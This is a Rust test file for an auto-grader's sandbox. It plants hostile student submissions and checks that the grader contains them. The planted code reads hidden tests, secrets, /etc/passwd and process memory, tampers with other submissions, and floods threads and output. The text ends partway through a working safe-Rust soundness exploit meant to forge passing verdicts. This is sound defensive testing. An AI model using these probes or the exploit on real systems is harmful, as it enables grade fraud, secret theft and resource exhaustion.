//! The grader against hostile submissions: code that tries to buy points it did not earn, read
//! what is hidden, or touch anyone else's grade. Each attack is planted in a copy of exercise 06
//! (the reference, or the untouched stub) and graded as a learner's submission would be; each test
//! asserts what the attacker got: no points, no hidden text or environment value in a report, the
//! instructor's tree and the other submissions unchanged, nothing left running, the grader done
//! within its bounds.
//!
//! The corpus runs in the sandbox `WORKBOOK_SANDBOX` names (auto by default: bubblewrap where it
//! works). Where the sandbox in use lacks a protection, the test asserts that the grader *says* so
//! (its status lists it as missing) instead of asserting the protection.

mod common;

use common::{Submission, exercise, root, sandbox};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};
use workbook::exercises::Exercise;
use workbook::grade::Overlay;
use workbook::grader::{self, ExerciseResult, Limits, Outcome};
use workbook::manifest::Manifest;
use workbook::report::{self, Audience};
use workbook::sandbox::{Mode, Sandbox};

const EX06: &str = "ex06_timeouts";
/// `first_ok` with no futures: the attack runs where a visible test calls it.
const FIRST_OK: &str = "    Fut: Future<Output = Result<T, E>>,\n{\n";
const VISIBLE: &str = "first_ok_of_nothing_is_an_empty_list_of_errors";
/// A hidden test of exercise 06 (tests/grading.toml): its name must never reach a learner.
const HIDDEN: &str = "no_job_is_lost_or_handled_twice_whenever_shutdown_comes";
/// A visible test that calls `run_worker`.
const VISIBLE_WORKER: &str = "dropping_the_worker_while_it_waits_loses_no_job";
/// The first line of `run_worker`'s body in the reference.
const RUN_WORKER: &str = "    let mut report = WorkerReport::default();\n";

/// With the sandbox off (`--sandbox off`, trusted code only) there is no protection to test: the
/// grader must say so instead. Returns whether the sandbox is on.
fn sandboxed() -> bool {
    let status = sandbox().status();
    if status.backend == "off" {
        assert!(
            status.missing.iter().any(|m| m.contains("every isolation")),
            "with the sandbox off the status says so: {status:?}"
        );
        return false;
    }
    true
}

fn only(test: &str) -> Limits {
    only_in(&[test], sandbox())
}

fn only_in(tests: &[&str], sandbox: Arc<Sandbox>) -> Limits {
    Limits {
        only: Some(tests.iter().map(|t| t.to_string()).collect()),
        ..Limits::new(sandbox)
    }
}

/// Every learner-facing report of `results`, as one text.
fn learner_reports(results: &[ExerciseResult], sandbox: &Sandbox) -> String {
    let status = sandbox.status();
    let mut text = String::new();
    text.push_str(&report::scorecard(results, Audience::Learner, &status));
    text.push_str(&report::to_json("attacker", results, Audience::Learner, &status).to_string());
    text.push_str(&report::to_junit(
        "attacker",
        results,
        Audience::Learner,
        &status,
    ));
    text.push_str(&report::to_markdown(
        "attacker",
        results,
        Audience::Learner,
        &status,
    ));
    text.push_str(&report::to_exercism(results).to_string());
    text
}

/// Grades exercise 06 of every submission in one batch, as `grade-class` does.
fn grade(class: &[&Submission], limits: &Limits) -> Vec<ExerciseResult> {
    grade_in(&exercise(EX06), class, limits)
}

/// Grades exercise `ex` of every submission in one batch.
fn grade_in(ex: &Exercise, class: &[&Submission], limits: &Limits) -> Vec<ExerciseResult> {
    let dirs: Vec<PathBuf> = class.iter().map(|s| s.crate_dir(ex)).collect();
    let labels: Vec<String> = class
        .iter()
        .map(|s| s.0.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    let batch: Vec<(&str, Option<&Path>)> = labels
        .iter()
        .zip(&dirs)
        .map(|(l, d)| (l.as_str(), Some(d.as_path())))
        .collect();
    grader::grade_exercise_many(
        &Overlay::new(&root()),
        ex,
        &batch,
        limits,
        &Manifest::load(&root()).unwrap(),
    )
}

fn with_stub(s: Submission, ex: &Exercise) -> Submission {
    workbook::grade::copy_dir(&ex.stub_dir().join("src"), &s.crate_dir(ex).join("src")).unwrap();
    s
}

fn no_points(result: &ExerciseResult, what: &str) {
    assert_eq!(
        result.points(),
        0.0,
        "{what} gained points: {:#?}",
        result.tests
    );
}

/// Everything a grading run's reports say, learner-facing and instructor-facing, as one text.
fn all_reports(label: &str, results: &[ExerciseResult]) -> String {
    let status = sandbox().status();
    let mut text = String::new();
    for audience in [Audience::Learner, Audience::Instructor] {
        text.push_str(&report::scorecard(results, audience, &status));
        text.push_str(&report::to_json(label, results, audience, &status).to_string());
        text.push_str(&report::to_junit(label, results, audience, &status));
        text.push_str(&report::to_markdown(label, results, audience, &status));
    }
    text.push_str(&report::to_gradescope(results, &status).to_string());
    text.push_str(&report::to_exercism(results).to_string());
    text
}

/// Every file under `dir`, with its bytes: to show that grading changed nothing there.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|t| t.is_dir()) {
            files.extend(snapshot(&path));
        } else {
            files.push((path.clone(), std::fs::read(&path).unwrap_or_default()));
        }
    }
    files.sort();
    files
}

/// Processes on this machine whose command line or environment contains `marker`.
fn processes_with(marker: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            ["cmdline", "environ"].iter().any(|f| {
                std::fs::read(format!("/proc/{pid}/{f}"))
                    .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
            })
        })
        .collect()
}

fn unique(prefix: &str) -> String {
    format!("{prefix}-{}", workbook::sandbox::random_hex(6))
}

// ------------------------------------------------------------------------------------------------
// Compile time: the reference, the hidden suite and the environment are out of the compiler's reach
// ------------------------------------------------------------------------------------------------

#[test]
fn a_stub_whose_modules_point_at_the_reference_does_not_compile() {
    if !sandboxed() {
        return;
    }
    let ex = exercise(EX06);
    let reference = ex.solution_dir().join("src");
    // `#[path]` on every `mod` line of the stub: absolute, and relative from the scratch package
    // up to the instructor's root.
    let pointed = |label: &str, path_of: &dyn Fn(&str) -> String| {
        let s = with_stub(Submission::new(label), &ex);
        let lib = s.crate_dir(&ex).join("src").join("lib.rs");
        let text = std::fs::read_to_string(&lib).unwrap();
        let rewritten: String = text
            .lines()
            .map(|line| {
                let module = line
                    .trim()
                    .strip_prefix("pub mod ")
                    .or_else(|| line.trim().strip_prefix("mod "))
                    .and_then(|m| m.strip_suffix(';'));
                match module {
                    Some(m) => format!("#[path = \"{}\"]\n{line}\n", path_of(m)),
                    None => format!("{line}\n"),
                }
            })
            .collect();
        assert!(rewritten.contains("#[path"), "the stub has mod lines");
        std::fs::write(&lib, rewritten).unwrap();
        s
    };
    let absolute = pointed("path_absolute", &|m| {
        reference.join(format!("{m}.rs")).display().to_string()
    });
    let relative = pointed("path_relative", &|m| {
        format!("../../../../../../solutions/{EX06}/src/{m}.rs")
    });
    // `include!` of the reference's lib.rs, the path built by `concat!` and `env!`.
    let included = Submission::new("path_include").write(
        &format!("exercises/{EX06}/src/lib.rs"),
        &format!(
            "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/../../../../../solutions/{EX06}/src/lib.rs\"));\n"
        ),
    );
    let honest = Submission::new("path_control").with_reference(&ex);
    let results = grade(&[&absolute, &relative, &included, &honest], &only(VISIBLE));
    let reference_text = std::fs::read_to_string(reference.join("race.rs")).unwrap();
    let secret_line = reference_text
        .lines()
        .find(|l| l.contains("FuturesUnordered::new") || l.trim().len() > 40)
        .unwrap()
        .trim()
        .to_owned();
    for (result, what) in
        results[..3]
            .iter()
            .zip(["absolute #[path]", "relative #[path]", "include!"])
    {
        assert_eq!(
            result.tests[0].outcome,
            Outcome::DidNotCompile,
            "{what} to the reference: {:#?}",
            result
        );
        no_points(result, what);
        let errors = result.compile_errors.as_deref().unwrap_or_default();
        assert!(
            errors.contains("couldn't read") || errors.contains("No such file"),
            "{what}: the compiler could not read the reference, and says so:\n{errors}"
        );
        assert!(
            !all_reports("attacker", std::slice::from_ref(result)).contains(&secret_line),
            "{what}: a line of the reference reached a report"
        );
    }
    assert_eq!(
        results[3].tests[0].outcome,
        Outcome::Passed,
        "the honest copy in the same batch: {:#?}",
        results[3]
    );
}

/// The differential tests link the reference into the hidden suite's binary, as the library
/// `<exercise>_reference`: the learner's library must not be able to name it.
#[test]
fn the_reference_linked_for_the_differential_tests_is_out_of_a_learners_reach() {
    if !sandboxed() {
        return;
    }
    let ex = exercise(EX06);
    let borrowed = Submission::new("reference_crate").write(
        &format!("exercises/{EX06}/src/lib.rs"),
        &format!("extern crate {EX06}_reference;\npub use {EX06}_reference::*;\n"),
    );
    let honest = Submission::new("reference_crate_control").with_reference(&ex);
    let results = grade(&[&borrowed, &honest], &only(VISIBLE));
    assert_eq!(
        results[0].tests[0].outcome,
        Outcome::DidNotCompile,
        "a library that re-exports the reference's crate: {:#?}",
        results[0]
    );
    no_points(&results[0], "extern crate of the reference");
    let errors = results[0].compile_errors.as_deref().unwrap_or_default();
    assert!(
        errors.contains("can't find crate"),
        "the compiler did not find the reference's crate, and says so:\n{errors}"
    );
    assert_eq!(
        results[1].tests[0].outcome,
        Outcome::Passed,
        "the honest copy in the same batch: {:#?}",
        results[1]
    );
}

#[test]
fn the_hidden_suite_cannot_be_compiled_into_a_learners_report() {
    if !sandboxed() {
        return;
    }
    let ex = exercise(EX06);
    let suite = ex.hidden_suite();
    let attack = |label: &str, path: &str| {
        Submission::new(label).with_reference(&ex).inject(
            &ex,
            "race.rs",
            FIRST_OK,
            &format!("if futures.is_empty() {{ panic!(\"{{}}\", include_str!({path})); }}"),
        )
    };
    let absolute = attack(
        "suite_absolute",
        &format!("{:?}", suite.display().to_string()),
    );
    let built = attack(
        "suite_concat",
        &format!("concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/../../../../../tests/{EX06}.rs\")"),
    );
    let results = grade(&[&absolute, &built], &only(VISIBLE));
    for result in &results {
        assert_eq!(
            result.tests[0].outcome,
            Outcome::DidNotCompile,
            "{result:#?}"
        );
        no_points(result, "include_str! of the hidden suite");
        let reports = all_reports("attacker", std::slice::from_ref(result));
        assert!(
            !reports.contains(HIDDEN),
            "the hidden test's name reached a report:\n{reports}"
        );
    }
}

#[test]
fn the_graders_environment_never_reaches_learner_code() {
    // The real CLI, with a "CI secret" in its environment: read at compile time (`option_env!`)
    // and at run time (`std::env::var`) by a visible test, whose message the learner sees.
    let ex = exercise(EX06);
    let secret = unique("s3cret");
    let submission = Submission::new("env_secret").with_reference(&ex).inject(
        &ex,
        "race.rs",
        FIRST_OK,
        "if futures.is_empty() { panic!(\"compile time: {:?}; run time: {:?}; HOME: {:?}\", \
         option_env!(\"WORKBOOK_CORPUS_SECRET\"), std::env::var(\"WORKBOOK_CORPUS_SECRET\"), \
         std::env::var(\"HOME\")); }",
    );
    let out = submission.0.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let run = Command::new(env!("CARGO_BIN_EXE_workbook"))
        .current_dir(root())
        .env("WORKBOOK_CORPUS_SECRET", &secret)
        .arg("grade")
        .arg(&submission.0)
        .arg("--learner")
        .args(["--sandbox", &sandbox_mode()])
        .arg("--json")
        .arg(out.join("r.json"))
        .arg("--markdown")
        .arg(out.join("r.md"))
        .arg("--junit")
        .arg(out.join("r.xml"))
        .arg("--gradescope")
        .arg(out.join("gs.json"))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(
        stdout.contains("compile time: None; run time: Err(NotPresent)"),
        "the visible test ran and its message shows what it could read:\n{stdout}"
    );
    // Gradescope's results.json carries hidden tests on purpose (Gradescope withholds them from
    // the learner itself); every report must be free of the secret.
    let mut learner_facing = stdout.into_owned();
    for file in ["r.json", "r.md", "r.xml"] {
        learner_facing.push_str(&std::fs::read_to_string(out.join(file)).unwrap());
    }
    let gradescope = std::fs::read_to_string(out.join("gs.json")).unwrap();
    assert!(
        !learner_facing.contains(&secret) && !gradescope.contains(&secret),
        "the grader's environment reached a report"
    );
    assert!(
        !learner_facing.contains(HIDDEN),
        "a learner-facing report names a hidden test"
    );
}

fn sandbox_mode() -> String {
    std::env::var("WORKBOOK_SANDBOX").unwrap_or_else(|_| "auto".into())
}

// ------------------------------------------------------------------------------------------------
// Run time: the test process reaches nothing but its own binary, loopback and a private /tmp
// ------------------------------------------------------------------------------------------------

/// Code planted in `first_ok`: it tries each way in and panics with what it reached.
fn probe(paths_to_read: &[String], paths_to_write: &[String]) -> String {
    format!(
        "if futures.is_empty() {{
            let mut reached: Vec<String> = Vec::new();
            for p in {paths_to_read:?} {{
                if std::fs::read(p).is_ok() || std::fs::read_dir(p).is_ok() {{ reached.push(format!(\"read {{p}}\")); }}
            }}
            for p in {paths_to_write:?} {{
                if std::fs::OpenOptions::new().append(true).create(true).open(p).is_ok() {{ reached.push(format!(\"write {{p}}\")); }}
            }}
            if std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status().is_ok() {{ reached.push(\"ran sh\".into()); }}
            panic!(\"REACHED {{reached:?}}\");
        }}"
    )
}

#[test]
fn a_test_reaches_neither_its_own_memory_nor_the_verdict_channel() {
    if !sandboxed() {
        return;
    }
    let ex = exercise(EX06);
    let paths: Vec<String> = [
        "/proc/self/mem",
        "/proc/self/environ",
        "/proc/self/fd/3",
        "/proc/self/fd/4",
        "/dev/fd/4",
    ]
    .map(String::from)
    .to_vec();
    let s = Submission::new("own_memory").with_reference(&ex).inject(
        &ex,
        "race.rs",
        FIRST_OK,
        &probe(&paths, &paths[3..]),
    );
    let result = &grade(&[&s], &only(VISIBLE))[0];
    let test = &result.tests[0];
    assert_eq!(test.outcome, Outcome::Failed, "{test:#?}");
    assert!(
        test.message.contains("REACHED []"),
        "the test process reached its memory, its environment or the channel:\n{}",
        test.message
    );
}

#[test]
fn a_test_can_touch_neither_the_instructors_tree_nor_other_submissions() {
    if !sandboxed() {
        return;
    }
    let ex = exercise(EX06);
    let root = root();
    let tests = root.join("tests");
    let targets = root.join("target").join("workbook").join("target");
    let deps = targets.join("debug").join("deps");
    // A few real test binaries of other submissions, to overwrite.
    let binaries: Vec<String> = std::fs::read_dir(&deps)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("ex03_rate_limited_client-"))
        })
        .take(3)
        .map(|p| p.display().to_string())
        .collect();
    let mut write = vec![
        tests
            .join("ex03_rate_limited_client.rs")
            .display()
            .to_string(),
        tests.join("grading.toml").display().to_string(),
        root.join("target")
            .join("workbook")
            .join("PWNED")
            .display()
            .to_string(),
    ];
    write.extend(binaries.iter().cloned());
    let read = vec![
        root.display().to_string(),
        tests.join("ex06_timeouts.rs").display().to_string(),
        ex.solution_dir()
            .join("src")
            .join("race.rs")
            .display()
            .to_string(),
        deps.display().to_string(),
        "/etc/passwd".to_owned(),
        std::env::var("HOME").unwrap_or_else(|_| "/root".into()),
    ];
    let before_tests = snapshot(&tests);
    let before_binaries: Vec<Vec<u8>> =
        binaries.iter().map(|b| std::fs::read(b).unwrap()).collect();
    let s = Submission::new("touch_tree").with_reference(&ex).inject(
        &ex,
        "race.rs",
        FIRST_OK,
        &probe(&read, &write),
    );
    let result = &grade(&[&s], &only(VISIBLE))[0];
    let test = &result.tests[0];
    assert_eq!(test.outcome, Outcome::Failed, "{test:#?}");
    assert!(
        test.message.contains("REACHED []"),
        "the test process reached the instructor's tree or another submission:\n{}",
        test.message
    );
    assert!(
        snapshot(&tests) == before_tests,
        "the hidden suites or grading.toml changed"
    );
    let after: Vec<Vec<u8>> = binaries.iter().map(|b| std::fs::read(b).unwrap()).collect();
    assert!(
        after == before_binaries,
        "another submission's binary changed"
    );
    assert!(!root.join("target/workbook/PWNED").exists());
}

#[test]
fn nothing_a_test_starts_outlives_it() {
    // The test starts a copy of its own binary, in a process group of its own, that never ends,
    // then passes.
    let ex = exercise(EX06);
    let marker = unique("corpus-orphan");
    let code = format!(
        "if futures.is_empty() {{
            if std::env::var_os(\"CORPUS_ORPHAN\").is_some() {{
                loop {{ std::thread::sleep(std::time::Duration::from_secs(1)); }}
            }}
            let exe = std::env::args().next().unwrap();
            let mut child = std::process::Command::new(exe);
            child.args([\"--exact\", \"{VISIBLE}\", \"{marker}\"]).env(\"CORPUS_ORPHAN\", \"1\")
                .stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
            std::os::unix::process::CommandExt::process_group(&mut child, 0);
            let _ = child.spawn();
            std::thread::sleep(std::time::Duration::from_millis(200));
        }}"
    );
    let s = Submission::new("orphan")
        .with_reference(&ex)
        .inject(&ex, "race.rs", FIRST_OK, &code);
    let result = &grade(&[&s], &only(VISIBLE))[0];
    let left = processes_with(&marker);
    for pid in &left {
        let _ = Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
    if sandbox().status().backend == "bubblewrap" {
        assert!(
            left.is_empty(),
            "a process the test started outlived it: {left:?} ({result:#?})"
        );
    } else {
        assert!(
            sandbox()
                .status()
                .missing
                .iter()
                .any(|m| m.contains("PID namespace") || m.contains("every isolation")),
            "without a PID namespace the status says so: {:?}",
            sandbox().status()
        );
    }
}

#[test]
fn threads_and_processes_a_test_starts_are_capped() {
    let ex = exercise(EX06);
    let code = "if futures.is_empty() {
        let mut n = 0u32;
        while n < 20_000 {
            match std::thread::Builder::new().stack_size(64 << 10).spawn(|| std::thread::sleep(std::time::Duration::from_secs(600))) {
                Ok(_) => n += 1,
                Err(_) => break,
            }
        }
        panic!(\"THREADS {n}\");
    }";
    let s = Submission::new("thread_bomb")
        .with_reference(&ex)
        .inject(&ex, "race.rs", FIRST_OK, code);
    let started = Instant::now();
    let result = &grade(&[&s], &only(VISIBLE))[0];
    let test = &result.tests[0];
    assert_ne!(test.outcome, Outcome::Passed);
    let status = sandbox().status();
    let capped =
        status.missing.iter().all(|m| !m.contains("process-count")) && status.backend != "off";
    if capped {
        let n: u32 = test
            .message
            .split("THREADS ")
            .nth(1)
            .and_then(|t| t.split_whitespace().next())
            .and_then(|t| t.parse().ok())
            .unwrap_or_else(|| panic!("the test reports its count: {test:#?}"));
        assert!(
            n < 600,
            "a test started {n} threads; the process-count limit is 512"
        );
    }
    assert!(
        started.elapsed() < Duration::from_secs(120),
        "the grader stayed within its bounds"
    );
}

#[test]
fn a_gigabyte_of_output_costs_the_grader_kilobytes() {
    let ex = exercise(EX06);
    let code = "if futures.is_empty() {
        use std::io::Write;
        let chunk = vec![b'x'; 1 << 20];
        let mut out = std::io::stdout().lock();
        for _ in 0..1024 { let _ = out.write_all(&chunk); }
        let _ = out.write_all(b\"\\nTHE END\\n\");
        drop(out);
        std::process::exit(3);
    }";
    let s = Submission::new("gigabyte")
        .with_reference(&ex)
        .inject(&ex, "race.rs", FIRST_OK, code);
    let result = &grade(&[&s], &only(VISIBLE))[0];
    let test = &result.tests[0];
    assert_eq!(test.outcome, Outcome::Crashed, "{test:#?}");
    assert!(
        test.message.len() < 40_000 && test.message.contains("bytes of output left out"),
        "the message keeps the beginning and the end ({} bytes)",
        test.message.len()
    );
    assert!(
        test.message.contains("THE END"),
        "the end of the output is kept"
    );
}

// ------------------------------------------------------------------------------------------------
// Untrusted input: one bad file costs its own submission only
// ------------------------------------------------------------------------------------------------

#[test]
fn links_fifos_and_devices_in_src_are_left_out_for_their_submission_only() {
    let ex = exercise(EX06);
    let reference = ex.solution_dir().join("src");
    // race.rs replaced by a link to the reference's: the link is refused, so race.rs is missing.
    let linked = with_stub(Submission::new("linked"), &ex);
    let race = linked.crate_dir(&ex).join("src").join("race.rs");
    std::fs::remove_file(&race).unwrap();
    std::os::unix::fs::symlink(reference.join("race.rs"), &race).unwrap();
    // The reference, plus an editor's dangling lock link, a FIFO and a link to /dev/zero: those
    // are left out, and the rest is graded.
    let cluttered = Submission::new("cluttered").with_reference(&ex);
    let src = cluttered.crate_dir(&ex).join("src");
    std::os::unix::fs::symlink("learner@host.1234:1700000000", src.join(".#race.rs")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", src.join("zero.rs")).unwrap();
    let fifo = src.join("pipe.rs");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let honest = Submission::new("links_control").with_reference(&ex);
    let started = Instant::now();
    let results = grade(&[&linked, &cluttered, &honest], &only(VISIBLE));
    assert!(
        started.elapsed() < Duration::from_secs(300),
        "nothing hung the grader"
    );
    assert_eq!(
        results[0].tests[0].outcome,
        Outcome::DidNotCompile,
        "{:#?}",
        results[0]
    );
    assert!(
        results[0]
            .ignored
            .iter()
            .any(|i| i.starts_with("src/race.rs: left out — a symbolic link")),
        "the link is reported: {:?}",
        results[0].ignored
    );
    assert_eq!(
        results[1].tests[0].outcome,
        Outcome::Passed,
        "{:#?}",
        results[1]
    );
    for file in [".#race.rs", "zero.rs", "pipe.rs"] {
        assert!(
            results[1]
                .ignored
                .iter()
                .any(|i| i.starts_with(&format!("src/{file}: left out"))),
            "{file} is reported as left out: {:?}",
            results[1].ignored
        );
    }
    assert_eq!(
        results[2].tests[0].outcome,
        Outcome::Passed,
        "{:#?}",
        results[2]
    );
}

#[test]
fn labels_that_read_alike_keep_their_own_grades() {
    let ex = exercise(EX06);
    // Each pair sanitises to the same name; one of each pair is the reference, the other the stub.
    let pairs = [("x-coll", "x_coll"), ("José", "Josè")];
    let mut class = Vec::new();
    for (a, b) in pairs {
        class.push(Submission::new(a).with_reference(&ex));
        class.push(with_stub(Submission::new(b), &ex));
    }
    // Make each reference a source of its own (identical sources are graded once by design).
    for (i, s) in class.iter().enumerate().filter(|(i, _)| i % 2 == 0) {
        let lib = s.crate_dir(&ex).join("src").join("lib.rs");
        let text = std::fs::read_to_string(&lib).unwrap();
        std::fs::write(&lib, format!("{text}\n// learner {i}\n")).unwrap();
    }
    let refs: Vec<&Submission> = class.iter().collect();
    let results = grade(&refs, &only(VISIBLE));
    let outcomes: Vec<Outcome> = results.iter().map(|r| r.tests[0].outcome).collect();
    assert_eq!(
        outcomes,
        [
            Outcome::Passed,
            Outcome::NotImplemented,
            Outcome::Passed,
            Outcome::NotImplemented
        ],
        "each label keeps its own result"
    );
}

#[test]
fn a_leftover_package_in_the_scratch_workspace_breaks_nothing() {
    // A package directory left behind half-made (by a grader that was stopped) is no member of a
    // later build.
    let ex = exercise(EX06);
    let junk = root()
        .join("target/workbook/overlay")
        .join(EX06)
        .join(format!("{EX06}__junk_00000000"));
    std::fs::create_dir_all(junk.join("src")).unwrap();
    std::fs::write(junk.join("src/lib.rs"), "this is not rust").unwrap();
    let honest = Submission::new("leftover_control").with_reference(&ex);
    let result = &grade(&[&honest], &only(VISIBLE))[0];
    let _ = std::fs::remove_dir_all(&junk);
    assert_eq!(result.tests[0].outcome, Outcome::Passed, "{result:#?}");
}

#[test]
fn an_endless_compile_costs_its_submission_only_and_leaves_nothing_running() {
    let ex = exercise(EX06);
    let marker = unique("endless");
    // Const evaluation that never ends (the lint that stops long ones is allowed away); the
    // marker names the crate's package so that a leftover rustc can be found.
    let endless = Submission::new(&marker).with_reference(&ex).inject(
        &ex,
        "lib.rs",
        "mod worker;\n",
        "#[allow(long_running_const_eval)]\nconst _: u64 = { let mut i = 0u64; loop { i = i.wrapping_add(1); if i == 0 { break i; } } };",
    );
    let honest = Submission::new("endless_control").with_reference(&ex);
    let limits = Limits {
        compile: Duration::from_secs(8),
        ..only(VISIBLE)
    };
    let started = Instant::now();
    let results = grade(&[&endless, &honest], &limits);
    let took = started.elapsed();
    assert_eq!(
        results[0].tests[0].outcome,
        Outcome::DidNotCompile,
        "{:#?}",
        results[0]
    );
    let errors = results[0].compile_errors.as_deref().unwrap_or_default();
    assert!(
        errors.contains("took longer than 8 s"),
        "the compile limit is named: {errors}"
    );
    assert_eq!(
        results[1].tests[0].outcome,
        Outcome::Passed,
        "{:#?}",
        results[1]
    );
    assert!(took < Duration::from_secs(120), "grading took {took:?}");
    std::thread::sleep(Duration::from_millis(500));
    let label = marker.replace('-', "_");
    let left: Vec<u32> = processes_with(&label)
        .into_iter()
        .filter(|pid| {
            std::fs::read_to_string(format!("/proc/{pid}/comm"))
                .is_ok_and(|c| c.contains("rustc") || c.contains("bwrap"))
        })
        .collect();
    assert!(left.is_empty(), "a compile outlived its limit: {left:?}");
}

#[test]
fn linked_exercise_directories_are_not_followed_and_cost_only_their_submission() {
    // A class of three, through the real CLI: one whose `exercises/` is a link to the
    // instructor's `solutions/`, one whose exercise directory is a link to the reference, one
    // honest reference of its own.
    let ex = exercise(EX06);
    let class = Submission::new("linked_class");
    let whole = class.0.join("all_linked");
    std::fs::create_dir_all(&whole).unwrap();
    std::os::unix::fs::symlink(root().join("solutions"), whole.join("exercises")).unwrap();
    let one = class.0.join("one_linked").join("exercises");
    std::fs::create_dir_all(&one).unwrap();
    std::os::unix::fs::symlink(ex.solution_dir(), one.join(EX06)).unwrap();
    let honest = class.0.join("honest").join("exercises").join(EX06);
    workbook::grade::copy_dir(&ex.solution_dir().join("src"), &honest.join("src")).unwrap();
    std::fs::write(honest.join("src/lib.rs"), {
        let text = std::fs::read_to_string(ex.solution_dir().join("src/lib.rs")).unwrap();
        format!("{text}\n// my own\n")
    })
    .unwrap();
    let out = class.0.join("out");
    let run = Command::new(env!("CARGO_BIN_EXE_workbook"))
        .current_dir(root())
        .arg("grade-class")
        .arg(&class.0)
        .arg("--out")
        .arg(&out)
        .args(["--sandbox", &sandbox_mode()])
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "the class was graded: {}",
        String::from_utf8_lossy(&run.stderr)
    );
    let gradebook = std::fs::read_to_string(out.join("gradebook.csv")).unwrap();
    let score = |label: &str| -> f64 {
        let row = gradebook
            .lines()
            .find(|l| l.starts_with(&format!("{label},")))
            .unwrap_or_else(|| panic!("{label} is in the gradebook:\n{gradebook}"));
        row.split(',').nth(1).unwrap().parse().unwrap()
    };
    assert_eq!(
        score("all_linked"),
        0.0,
        "exercises/ linked to the solutions"
    );
    assert_eq!(
        score("one_linked"),
        0.0,
        "an exercise linked to the reference"
    );
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("honest/result.json")).unwrap())
            .unwrap();
    let ex06 = json["exercises"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["exercise"] == EX06)
        .unwrap();
    assert_eq!(
        ex06["score"], ex06["max_score"],
        "the honest submission: {ex06:#}"
    );
    let status = sandbox().status();
    assert_eq!(
        json["sandbox"]["backend"], status.backend,
        "every report says which sandbox graded it"
    );
    let linked: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("one_linked/result.json")).unwrap())
            .unwrap();
    let said = linked.to_string();
    assert!(
        said.contains("a symbolic link"),
        "the report says why the exercise was not taken: {said}"
    );
    let markdown = std::fs::read_to_string(out.join("honest/summary.md")).unwrap();
    assert!(
        markdown.contains("sandbox: "),
        "the Markdown report names the sandbox"
    );
}

#[test]
fn a_visible_test_cannot_list_or_run_the_hidden_tests_of_its_own_binary() {
    // The test runs its own binary with `--list`, and runs a hidden test through it, and puts
    // what they print into its own message, which the learner sees.
    let ex = exercise(EX06);
    let code = format!(
        "if futures.is_empty() {{
            let exe = std::env::args().next().unwrap();
            let list = std::process::Command::new(&exe).arg(\"--list\").output();
            let run = std::process::Command::new(&exe).args([\"--exact\", \"{HIDDEN}\", \"--nocapture\"]).output();
            let text = |o: std::io::Result<std::process::Output>| o.map(|o| String::from_utf8_lossy(&o.stdout).into_owned()).unwrap_or_default();
            panic!(\"LISTED {{}} RAN {{}}\", text(list), text(run));
        }}"
    );
    let submission = Submission::new("list_hidden")
        .with_reference(&ex)
        .inject(&ex, "race.rs", FIRST_OK, &code);
    let out = submission.0.join("out.json");
    let run = Command::new(env!("CARGO_BIN_EXE_workbook"))
        .current_dir(root())
        .arg("grade")
        .arg(&submission.0)
        .arg("--learner")
        .args(["--sandbox", &sandbox_mode()])
        .arg("--json")
        .arg(&out)
        .output()
        .unwrap();
    let report = std::fs::read_to_string(&out).unwrap();
    assert!(
        report.contains("LISTED") && report.contains(VISIBLE),
        "the visible test ran and listed its own binary: {}",
        String::from_utf8_lossy(&run.stdout)
    );
    assert!(
        !report.contains(HIDDEN),
        "the learner's report names a hidden test: its binary holds the hidden tests"
    );
}

// ------------------------------------------------------------------------------------------------
// Points not earned: safe Rust that breaks memory safety reads the kit's key
// ------------------------------------------------------------------------------------------------

/// The attack, planted as `src/pwn.rs` of the untouched stub: a soundness bug of the compiler
/// (rust-lang/rust#25860, still open) gives `transmute` in `#![forbid(unsafe_code)]` code; the
/// test reads its own binary for the address of `testkit::verdict::ARMED`, reads key, nonce,
/// sequence number and verdict fd from memory, writes a correctly signed "passed" record and
/// exits 0. What stops it here: the test binary is execute-only for the test's user and has no
/// symbols. What does not: code like this is not *prevented* — it is contained (README, threat
/// model). Written by a red-team review against the first version of the sandbox, where it scored
/// the untouched stub 44/44.
const PWN: &str = r###"//! Safe Rust only (the crate forbids `unsafe`): a compiler soundness bug (rust-lang/rust#25860)
//! gives `transmute`, which gives arbitrary reads; the kit's key is in a static.
use std::io::Write;

const STATIC_UNIT: &&() = &&();
#[inline(never)]
fn translator_mut<'a, 'b, T: ?Sized>(_a: &'a &'b (), b: &'b mut T) -> &'a mut T {
    b
}
fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translator_mut;
    f(STATIC_UNIT, x)
}
#[allow(dead_code)]
enum Dummy<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}
#[inline(never)]
fn inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
    let Dummy::B(to_b) = dummy else { unreachable!() };
    let to_b = expand_mut(to_b);
    *dummy = Dummy::A(Some(Box::new(obj)));
    std::hint::black_box(dummy);
    *to_b.take().unwrap()
}
fn transmute<A, B>(obj: A) -> B {
    inner(std::hint::black_box(&mut Dummy::B(None)), obj)
}
